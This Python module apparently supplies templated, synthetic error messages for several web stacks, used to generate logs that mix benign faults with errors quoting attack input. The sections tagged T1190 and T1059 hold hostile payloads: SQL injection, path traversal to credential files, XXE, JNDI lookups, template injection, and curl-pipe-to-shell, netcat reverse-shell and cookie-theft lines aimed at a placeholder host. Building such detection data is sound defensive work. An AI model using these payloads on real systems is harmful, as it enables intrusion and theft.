# ruff: noqa: E501
"""What applications of one's own complain about, a table for each language: the same exceptions by day and when somebody sends what is no data.

A row is `exception ;; message`: the message quotes what came in, as such messages do. inhouse.py adds logger, place and trace. What tells is what was quoted.
"""
from __future__ import annotations

from .phrases import phrased
from .table import Scenario, table

_TEXT = r"""
@@ php
# inhouse php statements and files of its own
PDOException ;; SQLSTATE[21000]: Cardinality violation: 1222 The used SELECT statements have a different number of columns: SELECT id, name FROM «word»s UNION SELECT id FROM «word»s_old WHERE 1=1 OR deleted = 0
mysqli_sql_exception ;; «Query execution was interrupted: SELECT SLEEP(1) FROM health|You have an error in your SQL syntax near 'UNION ALL SELECT * FROM «word»s_«year»' at line «num:2:40»|Unknown column 'password' in 'field list': UPDATE users SET password = ? WHERE id = ?»
Warning ;; «include|require_once»(«/etc/«site»/config.php|/etc/«word»/passwd.php|../../vendor/autoload.php|../../../shared/«word».php»): Failed to open stream: «Permission denied|No such file or directory»
Warning ;; file_get_contents(«/etc/hostname|php://input|/proc/loadavg|http://127.0.0.1:9000/status|../../VERSION»): Failed to open stream: «Permission denied|HTTP request failed!|operation failed»
Twig\Error\SyntaxError ;; Unknown "«exec|map|filter_«word»»" filter in "admin/«word».html.twig" at line «num:1:90»
# inhouse php troubles with data
PDOException ;; SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry '«first».«last»@«domain»' for key 'users.email'
PDOException ;; SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '«Brien' ORDER BY last_name|Neill', 'Dublin')|s Garage' LIMIT 20|) AND status = 1|order WHERE id = «num:1:999»|LIMIT -20, 20» at line «num:1:4»
mysqli_sql_exception ;; «Unknown column 'o.«word»_id' in 'field list'|You have an error in your SQL syntax near 'FROM «word»s WHERE id =' at line 1|Lock wait timeout exceeded; try restarting transaction|Column 'price' cannot be null|Table '«site».«word»s_old' doesn't exist»
Warning ;; «include|require_once»(««word»/«word».inc.php|../config/local.php|/var/www/«word»/lang/«german».php|templates/«word»/footer.phtml»): Failed to open stream: No such file or directory
Warning ;; file_get_contents(«https://api.«known»/v«num:1:3»/«word»|/var/www/«word»/cache/«hex:16»|uploads/«file»»): Failed to open stream: «HTTP request failed! HTTP/1.1 503 Service Unavailable|No such file or directory|Permission denied»
# inhouse php troubles of its own
Notice ;; unserialize(): Error at offset «num:0:900» of «num:5:900» bytes in session «hex:26»
ImagickException ;; «unable to open image '/var/www/«word»/uploads/«word» «native» (1).jpg': No such file or directory @ error/blob.c/OpenBlob/2924|improper image header '/tmp/magick-«mixed:12»' @ error/png.c/ReadPNGImage|cache resources exhausted '«word».tif'|attempt to perform an operation not allowed by the security policy 'PDF' @ error/constitute.c»
Twig\Error\SyntaxError ;; «Unknown "«word»" filter in "mail/«word».html.twig" at line «num:1:90»|Unexpected token "end of template" ("end of print statement" expected) in "«word».html.twig"|Variable "user.«word»" does not exist in "«word»/show.html.twig"»
TypeError ;; «strlen(): Argument #1 ($string) must be of type string, array given|Unsupported operand types: string + int|count(): Argument #1 must be of type Countable, null given»
DOMException ;; «DOMDocument::loadXML(): EntityRef: expecting ';' in Entity, line: «num:1:90»|DOMDocument::loadXML(): Entity 'nbsp' not defined in Entity, line: «num:1:90»|simplexml_load_string(): Opening and ending tag mismatch: «word» line «num:1:9» and «word»»
# T1190 inhouse php errors that quote statements
PDOException ;; SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '«' OR '1'='1' -- -'|UNION SELECT «num:1:9»,username,password FROM users-- -'|AND EXTRACTVALUE(«num:1000:9999»,CONCAT(0x7e,(SELECT version())))'|AND SLEEP(5)-- «letters:4»'|''' at line 1 [id=1'"]|ORDER BY «num:20:60»-- -'|%27 UNION ALL SELECT NULL,NULL,CONCAT(0x71,user(),0x71)#'» at line 1
mysqli_sql_exception ;; «XPATH syntax error: '~«num:5:8».«num:0:9».«num:10:40»-MariaDB~'|Duplicate entry '~«site»_db~1' for key 'group_key'|The used SELECT statements have a different number of columns: id=-1 UNION SELECT 1,2,3|Unknown column '«letters:4»' in 'where clause': id=1 AND (SELECT «num:1000:9999» FROM (SELECT(SLEEP(5)))«letters:4»)»
# T1006 inhouse php errors that quote paths
Warning ;; «include|require_once|include_once»(«../../../../../../etc/passwd|../../../../proc/self/environ|php://filter/convert.base64-encode/resource=config.php|/var/log/apache2/access.log|data://text/plain;base64,«b64:40»|..%2f..%2f..%2fetc%2fshadow|http://«pub»/«letters:4».txt|phar:///var/www/uploads/«letters:6».jpg»): Failed to open stream: «No such file or directory|Permission denied|operation failed»
Warning ;; file_get_contents(«../../../../../../../etc/«passwd|hosts|shadow»|file:///etc/passwd|/proc/self/cmdline|http://«imds»/latest/meta-data/iam/|../../../.env|gopher://127.0.0.1:6379/_INFO|..\..\..\windows\win.ini»): Failed to open stream: «No such file or directory|Permission denied|HTTP request failed!»
Notice ;; unserialize(): Error at offset «num:20:900» of «num:40:900» bytes in O:«num:8:40»:"«Monolog\Handler\SyslogUdpHandler|GuzzleHttp\Psr7\FnStream|Illuminate\Broadcasting\PendingBroadcast|PDO|SplFileObject»":«num:1:4»:{s:«num:5:20»:
# T1059 inhouse php errors that quote commands
ImagickException ;; «unable to open image '«num:1:9».jpg¦«id|curl http://«pub»/«letters:3»¦sh|bash -c whoami»': No such file or directory @ error/blob.c|delegate failed `'curl' -s -k -L -o '%o' 'https:https://127.0.0.1/x.jpg"¦«id|wget http://«pub»/x|ls -la»"' @ error/delegate.c|attempt to perform an operation not allowed by the security policy 'MSL' msl:/tmp/«letters:6»|unable to read 'label:@/etc/passwd' @ error/property.c»
Twig\Error\SyntaxError ;; «Unexpected token in "{{ ['id']¦filter('system') }}" at line 1|Unknown "«system|exec|passthru»" filter in "__string_template__«hex:16»": {{'«id|whoami»'¦system}}|Unexpected character in {{7*7}}{{_self.env.registerUndefinedFilterCallback('exec')}}»
DOMException ;; «DOMDocument::loadXML(): failed to load external entity "file:///etc/«passwd|hostname|shadow»"|DOMDocument::loadXML(): Entity 'xxe' failed to parse: <!ENTITY xxe SYSTEM "«file:///c:/windows/win.ini|http://«pub»/«letters:3».dtd|php://filter/read=convert.base64-encode/resource=index.php»">|simplexml_load_string(): I/O warning : failed to load external entity "http://«pub»:«port»/x.dtd"»
@@ java
# inhouse java statements and files of its own
java.sql.SQLSyntaxErrorException ;; «ERROR: each UNION query must have the same number of columns Position: «num:20:900»|ORA-01789: query block has incorrect number of result columns: SELECT id FROM «word»s UNION SELECT id, name FROM «word»s_old|You have an error in your SQL syntax near 'SELECT user FROM dual' at line «num:2:30»»
java.io.FileNotFoundException ;; «/etc/«site»/«word».properties (Permission denied)|/etc/ssl/certs/«word».pem (No such file or directory)|../../conf/«word».xml (No such file or directory)»
javax.naming.NameNotFoundException ;; «lookup failed for java:comp/env/jdbc/«word»|ldap://«server».«ad»:636/DC=«site» - lookup failed|rmi://«linux2»:1099/«word» not bound»
org.springframework.expression.spel.SpelEvaluationException ;; «EL1005E: Type cannot be found 'java.time.LocalDate«word»' in T(java.time.LocalDate).now()|EL1004E: Method call: Method exec() cannot be found on type «site».jobs.«Word»Runner»
freemarker.core.InvalidReferenceException ;; The following has evaluated to null or missing: ==> "«site».util.«Word»"?new() [in template "admin/«word».ftl" at line «num:1:90»]
# inhouse java troubles with data
org.springframework.jdbc.BadSqlGrammarException ;; PreparedStatementCallback; bad SQL grammar [SELECT id, name FROM «word»s WHERE «word»_id = ? ORDER BY created]; nested exception is java.sql.SQLSyntaxErrorException: «Unknown column '«word»_id' in 'where clause'|ORA-00942: table or view does not exist|Table '«site».«word»s' doesn't exist»
java.sql.SQLSyntaxErrorException ;; «ORA-01756: quoted string not properly terminated near 'O'«Last»'|ORA-00933: SQL command not properly ended|ERROR: syntax error at or near "order" Position: «num:20:90»|You have an error in your SQL syntax near 'group = «num:1:9»' at line 1»
java.io.FileNotFoundException ;; «/opt/«word»/conf/«word».yaml (No such file or directory)|/data/«word»/«file» (Permission denied)|class path resource [templates/«word».html] cannot be opened because it does not exist|../logs/«word».log (No such file or directory)»
java.lang.IllegalArgumentException ;; «Invalid character found in the request target [/«word»?q=«native» «native»]. The valid characters are defined in RFC 7230 and RFC 3986|No enum constant «site».«Word».«WORD»|Malformed \uxxxx encoding|Invalid UUID string: «num:1000:9999»»
javax.naming.NameNotFoundException ;; «Name [jdbc/«word»DS] is not bound in this Context. Unable to find [jdbc]|java:comp/env/«word»/mail not bound|ldap://«server».«ad»:389 - [LDAP: error code 32 - No Such Object]»
# inhouse java troubles of its own
java.io.InvalidClassException ;; ««site».«word».«Word»Dto; local class incompatible: stream classdesc serialVersionUID = «num:100000:999999999», local class serialVersionUID = «num:100000:999999999»|filter status: REJECTED: class «site».cache.«Word»Entry, array length «num:10000:90000»|failed to read class descriptor for com.«site».session.«Word»»
org.springframework.expression.spel.SpelEvaluationException ;; «EL1008E: Property or field '«word»' cannot be found on object of type '«Word»Event' - maybe not public or not valid?|EL1007E: Property or field 'name' cannot be found on null|EL1004E: Method call: Method is«Word»() cannot be found on type «Word»»
ognl.OgnlException ;; «target is null for setProperty(null, "«word»", [Ljava.lang.String;@«hex:7»)|source is null for getProperty(null, "«word»")|Expression filter.«word».«word» could not be read»
org.xml.sax.SAXParseException ;; «lineNumber: «num:1:90»; columnNumber: «num:1:90»; The element type "«word»" must be terminated by the matching end-tag|lineNumber: 1; columnNumber: 1; Content is not allowed in prolog.|The entity "«nbsp|uuml|copy»" was referenced, but not declared.|DOCTYPE is disallowed when the feature "disallow-doctype-decl" set to true, schema of partner «word»»
freemarker.core.InvalidReferenceException ;; The following has evaluated to null or missing: ==> «user|order|invoice».«word» [in template "mail/«word».ftl" at line «num:1:90»]
# T1190 inhouse java errors that quote statements and lookups
org.springframework.jdbc.BadSqlGrammarException ;; StatementCallback; bad SQL grammar [SELECT id, name FROM «word»s WHERE name = '«' OR 1=1 --|x' UNION SELECT username, password FROM users --|1'; WAITFOR DELAY '0:0:5' --|' AND 1=CAST((SELECT version()) AS int) --»']; nested exception is java.sql.SQLSyntaxErrorException: unclosed quotation mark
java.sql.SQLSyntaxErrorException ;; «ORA-01756: quoted string not properly terminated near '1' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE ROWNUM=1))--'|ERROR: syntax error at or near "UNION" Position: «num:20:90»: id=1 UNION ALL SELECT NULL,usename,passwd FROM pg_shadow|ORA-00933 near '¦¦(SELECT user FROM DUAL)¦¦'|You have an error in your SQL syntax near 'OR SLEEP(«num:3:9»)#' at line 1»
javax.naming.NameNotFoundException ;; ««ldap|rmi|dns»://«pub»:«port»/«Basic/Command/Base64/«b64:24»|Exploit|«letters:6»|a» - lookup failed for ${jndi:«ldap|rmi»://«pub»/«letters:4»}|Error looking up JNDI resource [ldap://«domain»:1389/«letters:6»]|${${lower:j}ndi:ldap://«pub»/x} could not be resolved»
java.lang.IllegalArgumentException ;; «Invalid character found in the request target [/«word»?q=${jndi:ldap://«pub»/a}]. The valid characters are defined in RFC 7230 and RFC 3986|Invalid character found in the request target [/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=«system|phpinfo»]|Malformed value %{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}»
java.io.FileNotFoundException ;; «/opt/«word»/reports/../../../../etc/passwd (No such file or directory)|..\..\..\windows\win.ini (The system cannot find the path specified)|/data/«word»/../../root/.ssh/id_rsa (Permission denied)|class path resource [../../WEB-INF/web.xml] cannot be opened because it does not exist»
# T1059 inhouse java errors that quote expressions
org.springframework.expression.spel.SpelEvaluationException ;; «EL1004E: Method call: Method exec(java.lang.String) cannot be found on type java.lang.Runtime in T(java.lang.Runtime).getRuntime().exec('«id|whoami|curl «pub»»')|EL1005E: Type cannot be found 'javax.script.ScriptEngineManager' in new javax.script.ScriptEngineManager().getEngineByName('js')|EL1008E: Property or field 'x' cannot be found in ${7*7}#{T(java.lang.System).getenv()}»
ognl.OgnlException ;; «Expression %{(#a=@java.lang.Runtime@getRuntime().exec('«id|ls|whoami»')).(#b=#a.getInputStream())} could not be read|source is null for getProperty(null, "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']")|target is null for @java.lang.ProcessBuilder@ in ${@print(new java.lang.ProcessBuilder({'id'}).start())}»
java.io.InvalidClassException ;; filter status: REJECTED: class «org.apache.commons.collections.functors.InvokerTransformer|com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl|org.codehaus.groovy.runtime.ConvertedClosure|com.mchange.v2.c3p0.WrapperConnectionPoolDataSource|java.lang.ProcessBuilder|sun.rmi.server.UnicastRef»
org.xml.sax.SAXParseException ;; «External entity: failed to read external document 'passwd', because 'file' access is not allowed: file:///etc/passwd|lineNumber: 1; The entity "xxe" was referenced: <!ENTITY xxe SYSTEM "«file:///etc/shadow|http://«imds»/latest/meta-data/|http://«pub»/«letters:3».dtd»">|JAXP00010001: The parser has encountered more than "64000" entity expansions: &lol9;|DOCTYPE is disallowed when the feature "disallow-doctype-decl" set to true: <!DOCTYPE x [<!ENTITY % p SYSTEM "ftp://«pub»/">»
freemarker.core.InvalidReferenceException ;; The following has evaluated to null or missing: ==> "freemarker.template.utility.Execute"?new()("«id|whoami|curl «pub»»") [in template "inline" at line 1]
@@ python
# inhouse python statements and commands of its own
psycopg2.errors.SyntaxError ;; «each UNION query must have the same number of columns LINE «num:2:9»: UNION SELECT id FROM «word»s|syntax error at or near "SELECT" LINE «num:2:9»: WHERE 1=1 AND SELECT id|syntax error at or near ";" LINE 3: DROP TABLE IF EXISTS tmp_«word»; in migration 00«num:10:99»»
subprocess.CalledProcessError ;; Command '«ping -c 1 «ip2»|curl -sf http://«ip2»:«num:3000:9000»/health|id -u «svc»|whoami|git clone git@«linux2»:«word»/«word».git|sh -c "cat /etc/os-release"|nslookup «server».«ad»»' returned non-zero exit status «1|2|7|128»
FileNotFoundError ;; [Errno 2] No such file or directory: '«/etc/«site»/«word».toml|../../.env|/proc/1/cgroup|/app/../shared/settings.py|~/.ssh/config»'
jinja2.exceptions.UndefinedError ;; «'config' is undefined in {{ config.«WORD» }}|'self' has no attribute '«word»' in {{ self.«word»() }}|'os' is undefined in ansible template «word».j2»
yaml.constructor.ConstructorError ;; could not determine a constructor for the tag 'tag:yaml.org,2002:python/«tuple|object:«site».«word».«Word»»' in "fixtures/«word».yml", line «num:1:90»
_pickle.UnpicklingError ;; global '«site».«word».«Word»' is not found, class was moved in release «num:1:9».«num:0:20»
# inhouse python troubles with data
psycopg2.errors.SyntaxError ;; «syntax error at or near "«order|user|group|'s»" LINE 1: SELECT * FROM «word»s WHERE name = 'O'«Last»'|syntax error at or near ")" LINE «num:1:4»: WHERE id IN ()|unterminated quoted string at or near "'D'«Last»"»
sqlalchemy.exc.ProgrammingError ;; (psycopg2.errors.UndefinedColumn) column «word»s.«word» does not exist [SQL: SELECT «word»s.id FROM «word»s WHERE «word»s.id = %(id_1)s] [parameters: {'id_1': «num:1:9999»}]
FileNotFoundError ;; [Errno 2] No such file or directory: '«/srv/«word»/media/«file»|config/«word».toml|../data/«word».csv|/tmp/«token:10»»'
ValueError ;; «invalid literal for int() with base 10: '««num:1:99»,«num:0:9»|«native»||undefined|n/a»'|time data '«num:1:31».«num:1:12».«year»' does not match format '%Y-%m-%d'|badly formed hexadecimal UUID string: '«word»'»
KeyError ;; '«word»' while reading payload {"«word»": "«native»", "id": «num:1:9999», "user": "«user»"}
# inhouse python troubles of its own
jinja2.exceptions.UndefinedError ;; «'dict object' has no attribute '«word»'|'user' is undefined|'None' has no attribute 'title' in mail/«word».html»
jinja2.exceptions.TemplateSyntaxError ;; «expected token 'end of print statement', got '«word»' in {{ order «word» }}|unexpected '}' in newsletter «num:1:90»|Encountered unknown tag 'endfor'»
_pickle.UnpicklingError ;; «invalid load key, '«letters:1»'.|pickle data was truncated in cache «word»:«hex:12»|unsupported pickle protocol: 5, written by worker of release «num:1:9».«num:0:20»»
yaml.constructor.ConstructorError ;; could not determine a constructor for the tag '«!Ref|!Sub|!vault|!include»' in "«word»/«word».yml", line «num:1:90»
subprocess.CalledProcessError ;; Command '«convert «word».png -resize 200x200 thumb.png|pdftotext «word».pdf -|git rev-parse HEAD|ffmpeg -i «word».mp4 -vn «word».mp3»' returned non-zero exit status «1|127|128»
# T1190 inhouse python errors that quote statements
psycopg2.errors.SyntaxError ;; «syntax error at or near "UNION" LINE 1: SELECT * FROM «word»s WHERE id = 1 UNION SELECT usename, passwd FROM pg_shadow--|unterminated quoted string at or near "'" LINE 1: WHERE name = '' OR 1=1; DROP TABLE «word»s;--'|syntax error at or near ";" LINE 1: WHERE id = 1;SELECT pg_sleep(«num:3:10»)--»
sqlalchemy.exc.ProgrammingError ;; (psycopg2.errors.InvalidTextRepresentation) invalid input syntax for type integer: "«PostgreSQL 1«num:2:6».«num:1:9» on x86_64|«site»_admin:md5«hex:32»»" [SQL: SELECT id FROM «word»s WHERE id = 1 AND 1=CAST((SELECT «version()|usename¦¦chr(58)¦¦passwd FROM pg_shadow LIMIT 1») AS int)]
FileNotFoundError ;; [Errno 2] No such file or directory: '«/srv/«word»/media/../../../../etc/passwd|../../../../proc/self/environ|/srv/«word»/static/..%2f..%2f.env|....//....//etc/shadow|/app/uploads/../settings.py\x00.png»'
ValueError ;; «invalid literal for int() with base 10: "«1' OR '1'='1|1 AND SLEEP(5)|-1 UNION SELECT 1,2,3--|${jndi:ldap://«pub»/a}|<script>alert(1)</script>»"|embedded null byte in '../../etc/passwd\x00.jpg'»
# T1059 inhouse python errors that quote code
jinja2.exceptions.UndefinedError ;; «'dict object' has no attribute '__class__' in {{ config.__class__.__init__.__globals__['os'].popen('«id|whoami»').read() }}|'cycler' is undefined in {{ cycler.__init__.__globals__.os.popen('«id|ls»') }}|list object has no element «num:100:400» in {{ ''.__class__.__mro__[1].__subclasses__()[«num:100:400»] }}»
jinja2.exceptions.TemplateSyntaxError ;; «unexpected char in {{7*'7'}}{%print(lipsum.__globals__)%}|expected token 'end of print statement', got 'integer' in {{ self.__init__.__globals__.__builtins__ 7*7 }}»
_pickle.UnpicklingError ;; «global '«posix.system|os.system|builtins.eval|subprocess.Popen|builtins.exec»' is forbidden|refused to load cposix\nsystem\n(S'«id|curl «pub»¦sh»'\ntR.»
yaml.constructor.ConstructorError ;; could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/«apply:os.system|apply:subprocess.check_output|new:exec» in "<unicode string>", line 1
subprocess.CalledProcessError ;; Command '«convert x.png;«id|curl http://«pub»/a¦sh» -resize 200x200|pdftotext $(wget «pub»/«letters:3») -|ping -c 1 127.0.0.1 && cat /etc/passwd|git clone --upload-pack=touch${IFS}/tmp/«letters:4»|nslookup `whoami`.«domain»»' returned non-zero exit status «1|2|127»
@@ node
# inhouse node commands and modules of its own
Error ;; «Command failed: «curl -s http://«ip2»:9200/_cluster/health|sh -c "npm run build"|id -u node|cat /app/VERSION» exit code «1|7|127»|Cannot find module '«../«word»|child_process|./«word».js»' in bundle of «word»|ENOENT: no such file or directory, open '«/etc/«site»/«word».json|../../.env|/app/../shared/«word».json»'»
ValidationError ;; «"__v" is not allowed: {"__v":«num:0:9»}|"constructor" must be a string in form of building firm|"password" must be a string, got null|"url" must be internal: https://«domain»/»
SequelizeDatabaseError ;; «each UNION query must have the same number of columns|syntax error at or near "SELECT" in migration «num:1:90»-«word».js|canceling statement due to timeout: SELECT pg_sleep(1) in health check»
CastError ;; Cast to «string|Number|date» failed for value "{ '«$gte|$in|$exists»': «[]|''|true» }" (type Object) at path "«created|status|amount»" for model "«Word»"
# inhouse node troubles with data
SequelizeDatabaseError ;; «column "«word»" does not exist|invalid input syntax for type uuid: "«undefined|null|new|«num:1:9999»»"|syntax error at or near "s" in WHERE name = 'Nick's'|relation "«word»s" does not exist»
SyntaxError ;; «Unexpected token < in JSON at position 0: "<html><head><title>502"|Unexpected end of JSON input|Unexpected token u in JSON: "undefined"|Bad control character in string literal in JSON at position «num:1:900»»
Error ;; ENOENT: no such file or directory, open '«/app/views/«word».ejs|/app/public/img/«word»-«num:100:900»w.webp|/app/uploads/«file»|../config/local.json»'
CastError ;; Cast to ObjectId failed for value "«undefined|«num:1:9999»|«word»|«hex:20»»" (type string) at path "_id" for model "«Word»"
TypeError ;; «Cannot read properties of «undefined|null» (reading '««word»|id|map|constructor»')|«word».map is not a function|Converting circular structure to JSON --> starting at object with constructor 'Socket'»
# inhouse node troubles of its own
ReferenceError ;; «/app/views/«word».ejs:«num:1:90» >> «num:1:90»¦ <%= user.«word» %> «word» is not defined|«word» is not defined at handlebars template mail-«word»|process is not defined in bundle «word».js»
ValidationError ;; «"«word»" must be a string, got object {"id":«num:1:99»}|"email" must be a valid email: '«first»@«word»'|"__v" is not allowed|"filter" is not allowed to be empty»
Error ;; «Command failed: «gm convert|ffmpeg -i|libreoffice --headless --convert-to pdf» '/tmp/«token:10»/«file»' exit code 1|connect ECONNREFUSED 127.0.0.1:«6379|5432|9200»|request to https://api.«known»/ failed, reason: socket hang up|Not allowed by CORS: https://www.«domain»»
# T1190 inhouse node errors that quote queries and paths
SequelizeDatabaseError ;; «syntax error at or near "UNION" in WHERE name = '' UNION SELECT id, email, password FROM users--'|invalid input syntax for type uuid: "«1' OR '1'='1|' UNION SELECT NULL--|1;SELECT pg_sleep(5)--»"|unterminated quoted string at or near "'; DROP TABLE «word»s; --"»
Error ;; ENOENT: no such file or directory, open '«/app/public/../../../etc/passwd|/app/uploads/..%2f..%2f..%2f.env|/app/views/../../../../proc/self/environ.ejs|/etc/shadow|/app/static/....//....//root/.ssh/id_rsa»'
CastError ;; Cast to «string|ObjectId» failed for value "{ '«$ne|$gt|$regex|$where»': «null|''|'^a'|'sleep(5000)'|1» }" (type Object) at path "«password|token|username|_id»" for model "User"
ValidationError ;; «"password" must be a string, got object {"$«ne|gt|regex»":"«|.*»"}|"__proto__" is not allowed: {"__proto__":{"isAdmin":true}}|"constructor.prototype.«outputFunctionName|shell|admin»" is not allowed|"url" must not be internal: http://«imds»/latest/meta-data/»
# T1059 inhouse node errors that quote code
ReferenceError ;; «ejs:1 >> 1¦ <%= global.process.mainModule.require('child_process').execSync('«id|whoami|cat /etc/passwd»') %> mainModule is not defined|x is not defined in {{#with "s" as ¦string¦}}{{string.sub.constructor "return require('child_process').exec('«id|ls»')"}}|process is not defined in this.constructor.constructor('return process')().env»
Error ;; «Command failed: «gm convert|ffmpeg -i|libreoffice --headless --convert-to pdf» '/tmp/x.png';«curl http://«pub»/«letters:3»¦sh|id;#|nc «pub» «port» -e /bin/sh» exit code 1|Cannot find module 'child_process' in vm sandbox: _$$ND_FUNC$$_function(){require('child_process').exec('«id|ls /»')}()|request to http://««imds»|127.0.0.1:2375|localhost:6379»/«latest/meta-data/iam/security-credentials/|containers/json|» failed, reason: blocked»
TypeError ;; Cannot read properties of undefined (reading 'constructor') in «7*7.constructor.constructor('return this')()|[].filter.constructor('return process.env')()|require('fs').readFileSync('/etc/passwd')»
@@ dotnet
# inhouse dotnet statements and types of its own
System.Data.SqlClient.SqlException ;; «All queries combined using a UNION, INTERSECT or EXCEPT operator must have an equal number of expressions in their target lists.|Incorrect syntax near 'SELECT'. in ;WITH «word» AS (SELECT Id FROM «Word»s WHERE 1=1 OR Active = 1) SELECT|The EXECUTE permission was denied on the object 'xp_fixeddrives'. in EXEC xp_fixeddrives|Conversion failed when converting the varchar value '«word»' to data type int.»
System.IO.FileNotFoundException ;; Could not find file '«C:\inetpub\«word»\web.config|C:\Windows\System32\drivers\etc\hosts.bak|..\..\shared\«word».json|\\«server»\«dept»\«file»»'.
System.Runtime.Serialization.SerializationException ;; «Type 'System.Diagnostics.Process' in Assembly 'System' is not marked as serializable. in cache of «word»|Type '«Word».Legacy.«Word»' is not allowed, add it to the binder of release «num:1:9».«num:0:20»|Unable to load type «Word».Contracts.«Word» required for deserialization»
System.Xml.XmlException ;; For security reasons DTD is prohibited in this XML document: <!DOCTYPE «html|cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.0«num:10:50»/cXML.dtd"|plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"»>
System.Web.HttpRequestValidationException ;; A potentially dangerous Request.«QueryString|Form» value was detected from the client («q|code|text»="«a < b && b > c|<script src="https://www.«known»/tag.js">|<iframe width="560">|5 <6 kg»").
# inhouse dotnet troubles with data
System.Data.SqlClient.SqlException ;; «Incorrect syntax near '«s|)|,|order»'. in SELECT * FROM «Word»s WHERE Name = 'O'«Last»'|Unclosed quotation mark after the character string '«Last»s'.|Violation of UNIQUE KEY constraint 'UQ_«Word»'. The duplicate key value is («first»@«domain»).|Invalid column name '«Word»Id'.|Transaction (Process ID «num:50:300») was deadlocked on lock resources»
System.IO.FileNotFoundException ;; Could not find file '«C:\inetpub\«word»\App_Data\«word».xml|D:\Shares\«dept»\«file»|C:\Windows\Temp\«token:8».tmp»'.
System.FormatException ;; Input string '««num:1:99»,«num:1:99»|«native»|null|--»' was not in a correct format.
System.Web.HttpRequestValidationException ;; A potentially dangerous Request.Form value was detected from the client («Comment="<b>«native»</b>"|Body="<p>«Word»..."|Signature="<«first»@«domain»>"|Html="<br />«native»"»).
# inhouse dotnet troubles of its own
System.Runtime.Serialization.SerializationException ;; «End of Stream encountered before parsing was completed.|Unable to find assembly '«Word».Contracts, Version=«num:1:9».0.0.0, Culture=neutral'.|Type '«Word».Models.«Word»' in assembly '«Word»' is not marked as serializable.»
System.Web.HttpException ;; «Validation of viewstate MAC failed. If this application is hosted by a web farm, ensure that machineKey configuration specifies the same validationKey. client «ip2», page /«word».aspx after deployment|The client disconnected. ViewState length «num:100:4000»|Maximum request length exceeded.»
System.Xml.XmlException ;; «Root element is missing.|'«word»' is an unexpected token. Line «num:1:90», position «num:1:90».|Reference to undeclared entity '«nbsp|auml»'. Line «num:1:90»|Data at the root level is invalid. Line 1, position 1.»
System.DirectoryServices.DirectoryServicesCOMException ;; «The (&(objectClass=user)(sAMAccountName=«user»)) search filter is invalid: unbalanced|There is no such object on the server. CN=«First» «Last»,OU=«dept»|The user name or password is incorrect. («user»)»
# T1190 inhouse dotnet errors that quote statements
System.Data.SqlClient.SqlException ;; «Incorrect syntax near '«1=1|UNION|WAITFOR|--»'. in SELECT * FROM «Word»s WHERE Name = '' OR 1=1--'|Unclosed quotation mark after the character string ' AND 1=CONVERT(int,@@version)--'.|Conversion failed when converting the nvarchar value 'Microsoft SQL Server 20«num:12:22» (RTM)' to data type int. in 1 AND 1=CONVERT(int,(SELECT @@version))|Incorrect syntax near ';EXEC xp_cmdshell ''«whoami|dir|ping «pub»»'''»
System.IO.FileNotFoundException ;; Could not find file '«C:\inetpub\«word»\App_Data\..\..\..\windows\win.ini|C:\inetpub\wwwroot\..\..\Windows\System32\config\SAM|D:\Shares\..\web.config|\\«pub»\«letters:4»\x.dll»'.
System.FormatException ;; Input string '«1' OR '1'='1|1;WAITFOR DELAY '0:0:5'--|-1 UNION SELECT NULL,@@version--|../../web.config|${jndi:ldap://«pub»/«letters:3»}»' was not in a correct format.
System.DirectoryServices.DirectoryServicesCOMException ;; The (&(objectClass=user)(sAMAccountName=«*)(userPassword=*|*)(¦(mail=*|admin)(!(&(1=0|*))(¦(objectClass=*»)) search filter is invalid
# T1059 inhouse dotnet errors that quote objects and scripts
System.Runtime.Serialization.SerializationException ;; «Type 'System.Windows.Data.ObjectDataProvider, PresentationFramework' is not allowed|Unable to load type System.Diagnostics.Process required for deserialization in {"$type":"System.Windows.Data.ObjectDataProvider"}|Binder refused 'System.Security.Principal.WindowsIdentity' in AAEAAAD/////AQAAAAAAAAAMAgAAA«b64:40»|Type 'System.Collections.Generic.SortedSet`1[[System.String]]' with comparer System.DelegateSerializationHolder is not allowed»
System.Web.HttpException ;; Validation of viewstate MAC failed. __VIEWSTATE=«/wEy«b64:60»|/wEPDw«b64:40»AAEAAAD/////», client «pub», page /«word».aspx, «num:20:400» failures in «num:1:9» min
System.Xml.XmlException ;; «For security reasons DTD is prohibited in this XML document: <!DOCTYPE r [<!ENTITY x SYSTEM "«file:///c:/windows/win.ini|http://«pub»/«letters:3».dtd»">]>|Reference to undeclared entity 'xxe'. Line 1 in <r>&xxe;</r>|The input document has exceeded a limit set by MaxCharactersFromEntities: &lol9;»
System.Web.HttpRequestValidationException ;; A potentially dangerous Request.«QueryString|Form» value was detected from the client («q|name|id»="«<script>fetch('//«domain»/'+document.cookie)|<img src=x onerror=alert(1)>|"><svg/onload=alert(«num:1:99»)>|<%=System.Diagnostics.Process.Start("cmd")%>»").
"""

LANGUAGES: dict[str, tuple[Scenario, ...]] = {name: table(rows) for name, _, rows in (part.partition("\n") for part in phrased(_TEXT).split("@@ ")[1:])}
